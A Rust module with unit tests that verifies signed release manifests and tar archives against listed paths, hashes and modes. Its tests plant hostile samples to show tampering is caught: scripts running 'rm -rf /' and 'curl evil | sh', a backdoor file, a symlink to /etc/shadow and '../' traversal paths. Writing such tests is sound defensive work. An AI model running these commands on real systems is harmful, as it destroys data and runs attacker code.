//! Signed file manifests (issue 15; spec "The support bundle", "Script trust"; AG-32, AG-33,
//! AG-36): a list of files — each one's relative path, size, SHA-256 and mode — signed by a
//! release key, and the checks of a tree or an archive against it. The same manifest is the
//! support bundle's (inside the signed release metadata, and beside the unpacked tree) and a
//! site's `RELEASE_MANIFEST` with its `RELEASE_MANIFEST.sig`.
//!
//! A manifest on disk is [`MANIFEST_FILE`] (the JSON of [`FileManifest`]) and
//! [`SIGNATURE_FILE`] (`{"signatures": [{"keyid": ..., "sig": ...}]}`), each signature over
//! [`SIGNED_CONTEXT`] followed by the manifest file's exact bytes, so a signature is checked
//! over exactly what is then parsed. A manifest is *usable* when it is present, verifies against
//! a trusted key and parses within its bounds; otherwise nothing is known about any file
//! ([`ManifestError`]). A usable manifest judges files: [`FileManifest::compare`] names every
//! file that differs, is missing, or is not listed ([`Difference`]).
//!
//! This module does no I/O; [`crate::tree`] walks and lands real directories, and
//! [`read_archive`] reads a tar held in memory.

use std::{collections::BTreeMap, fmt, io::Read as _};

use base64::{engine::general_purpose::STANDARD, Engine as _};
use serde::{Deserialize, Serialize};

use crate::{digest::sha256_hex, keys::KeySignature, NodeKey, PublicKey, SIGNATURE_LENGTH};

/// The manifest beside the tree it describes (a site root, the bundle's tree).
pub const MANIFEST_FILE: &str = "RELEASE_MANIFEST";
/// Its signatures.
pub const SIGNATURE_FILE: &str = "RELEASE_MANIFEST.sig";
/// What a manifest signature covers, before the manifest's bytes: a signature made for
/// anything else (release metadata, an artifact, a request) never passes as one over a
/// manifest.
pub const SIGNED_CONTEXT: &[u8] = b"capstan-file-manifest-v1\n";
/// The most files a manifest may list.
pub const MAX_FILES: usize = 4096;
/// The most a manifest file may be (the agent reads no more).
pub const MAX_MANIFEST_BYTES: usize = 1024 * 1024;
/// The most a signature file may be.
pub const MAX_SIGNATURE_BYTES: usize = 8 * 1024;
/// The most one listed file may be.
pub const MAX_FILE_BYTES: u64 = 64 * 1024 * 1024;
/// The deepest a listed path may be, in directories.
pub const MAX_DEPTH: usize = 16;

/// One listed file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FileEntry {
    pub size: u64,
    /// Lowercase hex SHA-256 of the file's bytes.
    pub sha256: String,
    /// The permission bits, as four octal digits (`"0755"`): never set-id or sticky, never
    /// writable by group or others.
    #[serde(with = "octal")]
    pub mode: u32,
}

mod octal {
    use serde::{de::Error as _, Deserialize, Deserializer, Serializer};

    pub fn serialize<S: Serializer>(mode: &u32, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&format!("{mode:04o}"))
    }

    pub fn deserialize<'de, D: Deserializer<'de>>(deserializer: D) -> Result<u32, D::Error> {
        let text = String::deserialize(deserializer)?;
        if text.len() != 4 || !text.chars().all(|c| matches!(c, '0'..='7')) {
            return Err(D::Error::custom(format!(
                "mode {text:?} is not four octal digits"
            )));
        }
        u32::from_str_radix(&text, 8).map_err(D::Error::custom)
    }
}

/// Every file of a tree, by relative path.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FileManifest {
    pub files: BTreeMap<String, FileEntry>,
}

/// Why a manifest cannot be used: nothing is known about any file.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ManifestError {
    #[error("there is no {0}")]
    Absent(String),
    #[error("the manifest cannot be read: {0}")]
    Unreadable(String),
    #[error("the manifest is not valid: {0}")]
    Invalid(String),
    #[error("the manifest is not signed by a trusted key (signed by {signers})")]
    UntrustedSignature { signers: String },
}

/// How a file differs from the manifest.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Problem {
    /// Its bytes are not the ones listed (size or hash).
    Modified,
    /// Its mode is not the one listed.
    WrongMode,
    /// Listed, but not there.
    Missing,
    /// There, but not listed.
    Unlisted,
    /// Not a regular file where one is listed or found (a link, a device, a directory).
    NotAFile,
}

impl Problem {
    pub fn as_str(self) -> &'static str {
        match self {
            Problem::Modified => "modified",
            Problem::WrongMode => "wrong mode",
            Problem::Missing => "missing",
            Problem::Unlisted => "not listed",
            Problem::NotAFile => "not a regular file",
        }
    }
}

/// A file that is not as the manifest says.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Difference {
    pub path: String,
    pub problem: Problem,
}

impl fmt::Display for Difference {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} ({})", self.path, self.problem.as_str())
    }
}

/// What was found at a path of a tree or an archive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Seen {
    /// A regular file.
    File {
        size: u64,
        sha256: String,
        mode: u32,
    },
    /// Anything else: a link, a device, a directory where a file is listed.
    Other,
}

impl Seen {
    pub fn of(bytes: &[u8], mode: u32) -> Seen {
        Seen::File {
            size: bytes.len() as u64,
            sha256: sha256_hex(bytes),
            mode: mode & 0o7777,
        }
    }
}

/// A relative path inside a tree: no leading `/`, no `.`, `..` or empty segment, at most
/// [`MAX_DEPTH`] deep, of letters, digits, `.`, `-`, `_` and `/`.
pub fn valid_path(path: &str) -> bool {
    !path.is_empty()
        && path.len() <= 512
        && !path.starts_with('/')
        && path.split('/').count() <= MAX_DEPTH
        && path
            .split('/')
            .all(|part| !part.is_empty() && part != "." && part != "..")
        && path
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '/'))
}

fn valid_sha256(text: &str) -> bool {
    text.len() == 64 && text.chars().all(|c| matches!(c, '0'..='9' | 'a'..='f'))
}

/// Whether a listed mode is acceptable: permission bits only, nothing set-id or sticky, not
/// writable by group or others.
pub fn valid_mode(mode: u32) -> bool {
    mode & !0o777 == 0 && mode & 0o022 == 0
}

impl FileManifest {
    /// Lists `files` (path, mode, bytes).
    pub fn describe<'a>(
        files: impl IntoIterator<Item = (&'a str, u32, &'a [u8])>,
    ) -> Result<FileManifest, ManifestError> {
        let mut manifest = FileManifest::default();
        for (path, mode, bytes) in files {
            let entry = FileEntry {
                size: bytes.len() as u64,
                sha256: sha256_hex(bytes),
                mode: mode & 0o7777,
            };
            if manifest.files.insert(path.to_string(), entry).is_some() {
                return Err(ManifestError::Invalid(format!("{path} is listed twice")));
            }
        }
        manifest.check_shape()?;
        Ok(manifest)
    }

    /// Every entry within its bounds: 1 to [`MAX_FILES`] files, plain relative paths that are
    /// not the manifest's own files, none both a file and a directory, 64-hex hashes, sizes up
    /// to [`MAX_FILE_BYTES`], modes by [`valid_mode`].
    pub fn check_shape(&self) -> Result<(), ManifestError> {
        let invalid = |problem: String| Err(ManifestError::Invalid(problem));
        if self.files.is_empty() || self.files.len() > MAX_FILES {
            return invalid(format!("it must list 1 to {MAX_FILES} files"));
        }
        for (path, entry) in &self.files {
            if !valid_path(path) {
                return invalid(format!("{path:?} is not a plain relative path"));
            }
            if path == MANIFEST_FILE || path == SIGNATURE_FILE {
                return invalid(format!("{path} lists the manifest itself"));
            }
            if !valid_sha256(&entry.sha256) {
                return invalid(format!(
                    "{path} has a sha256 that is not 64 lowercase hex digits"
                ));
            }
            if entry.size > MAX_FILE_BYTES {
                return invalid(format!(
                    "{path} is {} bytes, more than {MAX_FILE_BYTES}",
                    entry.size
                ));
            }
            if !valid_mode(entry.mode) {
                return invalid(format!(
                    "{path} has mode {:04o}: a listed file is never set-id, sticky, or writable by group or others",
                    entry.mode
                ));
            }
        }
        // "a" as a file and "a/b" as a file cannot both be.
        for path in self.files.keys() {
            let mut prefix = String::new();
            for part in path.split('/').collect::<Vec<_>>().split_last().unwrap().1 {
                if !prefix.is_empty() {
                    prefix.push('/');
                }
                prefix.push_str(part);
                if self.files.contains_key(&prefix) {
                    return invalid(format!("{prefix} is listed as a file and as a directory"));
                }
            }
        }
        Ok(())
    }

    /// The manifest file's bytes: compact JSON, keys sorted, one newline. The same files give
    /// the same bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut bytes = serde_json::to_vec(self).expect("a manifest always serializes");
        bytes.push(b'\n');
        bytes
    }

    /// Reads a manifest file's bytes (no signature check: see [`verify`]).
    pub fn parse(bytes: &[u8]) -> Result<FileManifest, ManifestError> {
        if bytes.len() > MAX_MANIFEST_BYTES {
            return Err(ManifestError::Unreadable(format!(
                "it is larger than {MAX_MANIFEST_BYTES} bytes"
            )));
        }
        let manifest: FileManifest = serde_json::from_slice(bytes)
            .map_err(|error| ManifestError::Unreadable(error.to_string()))?;
        manifest.check_shape()?;
        Ok(manifest)
    }

    /// The signature file for this manifest's [`FileManifest::to_bytes`], signed by `key`.
    pub fn sign(&self, key: &NodeKey) -> Vec<u8> {
        signature_file(&self.to_bytes(), key)
    }

    /// Every way `seen` differs from this manifest, sorted by path: a listed file missing, not
    /// a regular file, of other bytes or another mode; and, when `whole` (a tree that must hold
    /// nothing else, like the support bundle's), every path not listed. `allowed` paths (the
    /// manifest's own files) are never unlisted.
    pub fn compare(
        &self,
        seen: &BTreeMap<String, Seen>,
        whole: bool,
        allowed: &[&str],
    ) -> Vec<Difference> {
        let mut differences = Vec::new();
        for (path, entry) in &self.files {
            if let Some(problem) = self.judge(path, entry, seen.get(path)) {
                differences.push(Difference {
                    path: path.clone(),
                    problem,
                });
            }
        }
        if whole {
            for (path, found) in seen {
                if self.files.contains_key(path) || allowed.contains(&path.as_str()) {
                    continue;
                }
                differences.push(Difference {
                    path: path.clone(),
                    problem: match found {
                        Seen::File { .. } => Problem::Unlisted,
                        Seen::Other => Problem::NotAFile,
                    },
                });
            }
        }
        differences.sort();
        differences
    }

    fn judge(&self, _path: &str, entry: &FileEntry, seen: Option<&Seen>) -> Option<Problem> {
        match seen {
            None => Some(Problem::Missing),
            Some(Seen::Other) => Some(Problem::NotAFile),
            Some(Seen::File { size, sha256, mode }) => {
                if *size != entry.size || *sha256 != entry.sha256 {
                    Some(Problem::Modified)
                } else if *mode != entry.mode {
                    Some(Problem::WrongMode)
                } else {
                    None
                }
            }
        }
    }

    /// One file's bytes against its entry: `Ok` when listed with exactly these bytes (AG-33's
    /// check before a script runs).
    pub fn check_file(&self, path: &str, bytes: &[u8], mode: u32) -> Result<(), Difference> {
        let problem = match self.files.get(path) {
            None => Some(Problem::Unlisted),
            Some(entry) => self.judge(path, entry, Some(&Seen::of(bytes, mode))),
        };
        match problem {
            None => Ok(()),
            Some(problem) => Err(Difference {
                path: path.to_string(),
                problem,
            }),
        }
    }
}

#[derive(Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct SignatureDocument {
    signatures: Vec<KeySignature>,
}

fn signing_input(manifest_bytes: &[u8]) -> Vec<u8> {
    let mut input = SIGNED_CONTEXT.to_vec();
    input.extend_from_slice(manifest_bytes);
    input
}

/// The signature file for the manifest file `manifest_bytes`, signed by `key`.
pub fn signature_file(manifest_bytes: &[u8], key: &NodeKey) -> Vec<u8> {
    let document = SignatureDocument {
        signatures: vec![KeySignature {
            keyid: key.public_key().fingerprint().to_string(),
            sig: STANDARD.encode(key.sign(&signing_input(manifest_bytes))),
        }],
    };
    let mut bytes = serde_json::to_vec(&document).expect("signatures serialize");
    bytes.push(b'\n');
    bytes
}

/// Checks a manifest file and its signature file against `trusted`, then reads it: the
/// usable manifest and the key that signed it, or why it cannot be used.
pub fn verify(
    manifest_bytes: &[u8],
    signature_bytes: &[u8],
    trusted: &[PublicKey],
) -> Result<(FileManifest, PublicKey), ManifestError> {
    if manifest_bytes.len() > MAX_MANIFEST_BYTES {
        return Err(ManifestError::Unreadable(format!(
            "{MANIFEST_FILE} is larger than {MAX_MANIFEST_BYTES} bytes"
        )));
    }
    if signature_bytes.len() > MAX_SIGNATURE_BYTES {
        return Err(ManifestError::Unreadable(format!(
            "{SIGNATURE_FILE} is larger than {MAX_SIGNATURE_BYTES} bytes"
        )));
    }
    let document: SignatureDocument = serde_json::from_slice(signature_bytes)
        .map_err(|error| ManifestError::Unreadable(format!("{SIGNATURE_FILE}: {error}")))?;
    let input = signing_input(manifest_bytes);
    let mut signer = None;
    'signatures: for signature in document.signatures.iter().take(8) {
        let Some(sig) = STANDARD
            .decode(&signature.sig)
            .ok()
            .and_then(|sig| <[u8; SIGNATURE_LENGTH]>::try_from(sig).ok())
        else {
            continue;
        };
        for key in trusted {
            if key.fingerprint().as_str() == signature.keyid && key.verify(&input, &sig).is_ok() {
                signer = Some(*key);
                break 'signatures;
            }
        }
    }
    let Some(signer) = signer else {
        return Err(ManifestError::UntrustedSignature {
            signers: document
                .signatures
                .iter()
                .map(|signature| signature.keyid.as_str())
                .collect::<Vec<_>>()
                .join(", "),
        });
    };
    Ok((FileManifest::parse(manifest_bytes)?, signer))
}

/// A file read out of an archive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArchivedFile {
    pub path: String,
    pub mode: u32,
    pub bytes: Vec<u8>,
}

/// Why an archive is refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ArchiveError {
    #[error("the archive cannot be read: {0}")]
    Unreadable(String),
    #[error("the archive does not match its manifest: {}", list(.0))]
    Differs(Vec<Difference>),
}

fn list(differences: &[Difference]) -> String {
    differences
        .iter()
        .map(Difference::to_string)
        .collect::<Vec<_>>()
        .join(", ")
}

impl ArchiveError {
    /// The files the refusal names.
    pub fn files(&self) -> Vec<String> {
        match self {
            ArchiveError::Unreadable(_) => Vec::new(),
            ArchiveError::Differs(differences) => differences
                .iter()
                .map(|difference| difference.path.clone())
                .collect(),
        }
    }
}

/// Reads a tar archive held in memory against `manifest` (AG-32): only regular files and
/// directories, at plain relative paths, each file once; every listed file present with its
/// listed bytes and mode, nothing unlisted but `allowed` (the manifest's own files). Returns
/// the files, in the archive's order, to land.
pub fn read_archive(
    bytes: &[u8],
    manifest: &FileManifest,
    allowed: &[&str],
) -> Result<Vec<ArchivedFile>, ArchiveError> {
    let unreadable = |error: std::io::Error| ArchiveError::Unreadable(error.to_string());
    let mut archive = tar::Archive::new(bytes);
    let mut files = Vec::new();
    let mut seen = BTreeMap::new();
    for entry in archive.entries().map_err(unreadable)? {
        let mut entry = entry.map_err(unreadable)?;
        let raw = String::from_utf8(entry.path_bytes().into_owned())
            .map_err(|_| ArchiveError::Unreadable("an entry's path is not UTF-8".into()))?;
        let path = raw.trim_end_matches('/').to_string();
        if !valid_path(&path) {
            return Err(ArchiveError::Unreadable(format!(
                "the entry {raw:?} is not a plain relative path"
            )));
        }
        let kind = entry.header().entry_type();
        if kind.is_dir() {
            continue;
        }
        if seen.contains_key(&path) {
            return Err(ArchiveError::Unreadable(format!(
                "{path} is in the archive twice"
            )));
        }
        if !kind.is_file() {
            seen.insert(path, Seen::Other);
            continue;
        }
        let size = entry.size();
        if size > MAX_FILE_BYTES {
            return Err(ArchiveError::Unreadable(format!(
                "{path} is {size} bytes, more than {MAX_FILE_BYTES}"
            )));
        }
        let mode = entry.header().mode().map_err(unreadable)? & 0o7777;
        let mut content = Vec::with_capacity(size as usize);
        (&mut entry)
            .take(MAX_FILE_BYTES)
            .read_to_end(&mut content)
            .map_err(unreadable)?;
        seen.insert(path.clone(), Seen::of(&content, mode));
        files.push(ArchivedFile {
            path,
            mode,
            bytes: content,
        });
    }
    let differences = manifest.compare(&seen, true, allowed);
    if !differences.is_empty() {
        return Err(ArchiveError::Differs(differences));
    }
    Ok(files)
}

/// A tar of `files` (path, mode, bytes) that the same files always give byte for byte: sorted
/// by path, owned by root, every time the epoch, each directory listed before its files.
pub fn write_archive<'a>(files: impl IntoIterator<Item = (&'a str, u32, &'a [u8])>) -> Vec<u8> {
    let mut sorted: Vec<_> = files.into_iter().collect();
    sorted.sort_by(|a, b| a.0.cmp(b.0));
    let mut builder = tar::Builder::new(Vec::new());
    let mut directories = std::collections::BTreeSet::new();
    let header = |kind: tar::EntryType, mode: u32, size: u64| {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_mode(mode);
        header.set_size(size);
        header.set_uid(0);
        header.set_gid(0);
        header.set_mtime(0);
        let _ = header.set_username("root");
        let _ = header.set_groupname("root");
        header
    };
    for (path, mode, bytes) in sorted {
        let parts: Vec<&str> = path.split('/').collect();
        for depth in 1..parts.len() {
            let directory = parts[..depth].join("/");
            if directories.insert(directory.clone()) {
                let mut header = header(tar::EntryType::Directory, 0o755, 0);
                builder
                    .append_data(&mut header, format!("{directory}/"), std::io::empty())
                    .expect("writing to memory");
            }
        }
        let mut header = header(tar::EntryType::Regular, mode & 0o7777, bytes.len() as u64);
        builder
            .append_data(&mut header, path, bytes)
            .expect("writing to memory");
    }
    builder.into_inner().expect("writing to memory")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key(seed: u8) -> NodeKey {
        NodeKey::from_secret_bytes(&[seed; 32]).unwrap()
    }

    const SCRIPT: &[u8] = b"#!/bin/sh\necho report\n";
    const LIST: &[u8] = b"192.0.2.0/24\n";

    fn files() -> Vec<(&'static str, u32, &'static [u8])> {
        vec![
            ("bin/host_report.sh", 0o755, SCRIPT),
            ("conf/ranges.txt", 0o644, LIST),
        ]
    }

    fn manifest() -> FileManifest {
        FileManifest::describe(files()).unwrap()
    }

    #[test]
    fn ag_33_a_manifest_verifies_only_against_a_trusted_key_and_any_edit_breaks_it() {
        let signer = key(1);
        let bytes = manifest().to_bytes();
        let signature = manifest().sign(&signer);
        let (read, by) = verify(
            &bytes,
            &signature,
            &[key(2).public_key(), signer.public_key()],
        )
        .unwrap();
        assert_eq!(read, manifest());
        assert_eq!(by, signer.public_key());
        assert!(matches!(
            verify(&bytes, &signature, &[key(2).public_key()]),
            Err(ManifestError::UntrustedSignature { .. })
        ));
        let edited = String::from_utf8(bytes.clone())
            .unwrap()
            .replace("0644", "0600");
        assert!(matches!(
            verify(edited.as_bytes(), &signature, &[signer.public_key()]),
            Err(ManifestError::UntrustedSignature { .. })
        ));
        // a release-metadata or artifact signature over the same bytes is not a manifest's
        let bare = STANDARD.encode(signer.sign(&bytes));
        let forged = format!(
            r#"{{"signatures":[{{"keyid":"{}","sig":"{bare}"}}]}}"#,
            signer.public_key().fingerprint()
        );
        assert!(verify(&bytes, forged.as_bytes(), &[signer.public_key()]).is_err());
        assert!(matches!(
            verify(&bytes, b"not json", &[signer.public_key()]),
            Err(ManifestError::Unreadable(_))
        ));
    }

    #[test]
    fn ag_33_the_same_files_give_the_same_manifest_bytes_and_it_reads_back() {
        let first = manifest().to_bytes();
        let mut reversed = files();
        reversed.reverse();
        assert_eq!(FileManifest::describe(reversed).unwrap().to_bytes(), first);
        assert_eq!(FileManifest::parse(&first).unwrap(), manifest());
        let text = String::from_utf8(first).unwrap();
        assert!(text.contains(r#""mode":"0755""#), "{text}");
    }

    #[test]
    fn ag_36_bad_paths_modes_and_shapes_are_refused_naming_the_file() {
        for (path, mode, why) in [
            ("../etc/passwd", 0o644, "relative"),
            ("/etc/passwd", 0o644, "relative"),
            ("a//b", 0o644, "relative"),
            ("RELEASE_MANIFEST", 0o644, "manifest itself"),
            ("bin/x.sh", 0o4755, "set-id"),
            ("bin/x.sh", 0o777, "writable"),
        ] {
            let error = FileManifest::describe([(path, mode, SCRIPT)]).unwrap_err();
            assert!(error.to_string().contains(why), "{path}: {error}");
        }
        let error =
            FileManifest::describe([("a", 0o644, SCRIPT), ("a/b", 0o644, SCRIPT)]).unwrap_err();
        assert!(
            error.to_string().contains("file and as a directory"),
            "{error}"
        );
        assert!(FileManifest::describe([]).is_err());
        assert!(
            FileManifest::parse(br#"{"files":{"a":{"size":1,"sha256":"x","mode":"0644"}}}"#)
                .unwrap_err()
                .to_string()
                .contains("sha256")
        );
        assert!(FileManifest::parse(
            br#"{"files":{"a":{"size":1,"sha256":"x","mode":"644"}},"extra":1}"#
        )
        .is_err());
    }

    #[test]
    fn ag_32_ag_33_compare_names_every_modified_missing_unlisted_and_odd_file() {
        let manifest = manifest();
        let mut seen = BTreeMap::new();
        seen.insert(
            "bin/host_report.sh".to_string(),
            Seen::of(b"#!/bin/sh\nrm -rf /\n", 0o755),
        );
        seen.insert("extra.sh".to_string(), Seen::of(b"x", 0o755));
        seen.insert("link".to_string(), Seen::Other);
        seen.insert(MANIFEST_FILE.to_string(), Seen::of(b"{}", 0o644));
        let differences = manifest.compare(&seen, true, &[MANIFEST_FILE, SIGNATURE_FILE]);
        let shown: Vec<String> = differences.iter().map(ToString::to_string).collect();
        assert_eq!(
            shown,
            [
                "bin/host_report.sh (modified)",
                "conf/ranges.txt (missing)",
                "extra.sh (not listed)",
                "link (not a regular file)",
            ]
        );
        // a site's tree holds files the release never had: only listed files are judged
        let differences = manifest.compare(&seen, false, &[]);
        assert_eq!(differences.len(), 2);
        // the same files, the same modes: nothing differs
        let mut good = BTreeMap::new();
        for (path, mode, bytes) in files() {
            good.insert(path.to_string(), Seen::of(bytes, mode));
        }
        assert!(manifest.compare(&good, true, &[]).is_empty());
        good.insert("conf/ranges.txt".into(), Seen::of(LIST, 0o600));
        assert_eq!(
            manifest.compare(&good, true, &[])[0].problem,
            Problem::WrongMode
        );
    }

    #[test]
    fn ag_33_one_script_is_checked_against_its_entry() {
        let manifest = manifest();
        assert_eq!(
            manifest.check_file("bin/host_report.sh", SCRIPT, 0o755),
            Ok(())
        );
        assert_eq!(
            manifest
                .check_file("bin/host_report.sh", b"#!/bin/sh\n", 0o755)
                .unwrap_err()
                .problem,
            Problem::Modified
        );
        assert_eq!(
            manifest
                .check_file("bin/other.sh", SCRIPT, 0o755)
                .unwrap_err()
                .problem,
            Problem::Unlisted
        );
    }

    #[test]
    fn ag_32_an_archive_is_read_back_against_its_manifest_and_the_same_files_give_the_same_bytes() {
        let manifest = manifest();
        let archive = write_archive(files());
        let mut reversed = files();
        reversed.reverse();
        assert_eq!(write_archive(reversed), archive, "deterministic");
        let read = read_archive(&archive, &manifest, &[]).unwrap();
        assert_eq!(read.len(), 2);
        assert_eq!(read[0].path, "bin/host_report.sh");
        assert_eq!(read[0].mode, 0o755);
        assert_eq!(read[0].bytes, SCRIPT);
    }

    #[test]
    fn ag_32_an_archive_with_a_changed_extra_or_missing_file_is_refused_naming_each() {
        let manifest = manifest();
        let tampered = write_archive([
            (
                "bin/host_report.sh",
                0o755,
                &b"#!/bin/sh\ncurl evil | sh\n"[..],
            ),
            ("bin/backdoor.sh", 0o755, &b"#!/bin/sh\n"[..]),
        ]);
        let error = read_archive(&tampered, &manifest, &[]).unwrap_err();
        assert_eq!(
            error.files(),
            ["bin/backdoor.sh", "bin/host_report.sh", "conf/ranges.txt"]
        );
        assert!(
            error.to_string().contains("bin/backdoor.sh (not listed)"),
            "{error}"
        );
        // the manifest's own files are allowed beside the listed ones when asked
        let signed = write_archive([
            ("bin/host_report.sh", 0o755, SCRIPT),
            ("conf/ranges.txt", 0o644, LIST),
            (MANIFEST_FILE, 0o644, &b"{}"[..]),
        ]);
        assert!(read_archive(&signed, &manifest, &[]).is_err());
        assert!(read_archive(&signed, &manifest, &[MANIFEST_FILE]).is_ok());
        // a link inside the archive is never a file
        let mut builder = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_size(0);
        builder
            .append_link(&mut header, "bin/host_report.sh", "/etc/shadow")
            .unwrap();
        let linked = builder.into_inner().unwrap();
        let error = read_archive(&linked, &manifest, &[]).unwrap_err();
        assert!(
            error
                .to_string()
                .contains("bin/host_report.sh (not a regular file)"),
            "{error}"
        );
        assert!(read_archive(b"not a tar at all, not even close", &manifest, &[]).is_err());
    }

    #[test]
    fn ag_36_an_archive_entry_outside_the_tree_is_refused() {
        let mut builder = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Regular);
        header.set_size(1);
        header.set_mode(0o644);
        // set_path refuses "..", so write the name bytes directly
        header.as_gnu_mut().unwrap().name[..9].copy_from_slice(b"../escape");
        header.set_cksum();
        builder.append(&header, &b"x"[..]).unwrap();
        let escaping = builder.into_inner().unwrap();
        let error = read_archive(&escaping, &manifest(), &[]).unwrap_err();
        assert!(
            error.to_string().contains("not a plain relative path"),
            "{error}"
        );
    }
}
